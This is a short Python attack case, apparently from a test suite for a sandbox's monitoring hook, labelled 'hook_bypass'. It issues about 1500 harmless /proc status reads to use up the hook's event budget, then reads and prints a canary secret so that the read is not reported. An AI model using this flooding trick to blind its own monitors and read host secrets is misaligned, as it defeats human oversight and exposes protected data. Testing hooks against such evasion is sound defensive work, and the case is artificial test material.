# attack: hook_event_flood
# class: 2
# category: hook_bypass
# kind: secret_read
# describe: use up the hook's event budget with distinct harmless /proc reads, then read the host secret unreported
import json
import os

T = json.load(open("target.json"))
for i in range(1500):
    try:
        os.stat(f"/proc/{i}/status")
        open(f"/proc/{i}/status").close()
    except OSError:
        pass
try:
    print(open(T["canary_path"]).read())
except OSError as e:
    print(e)
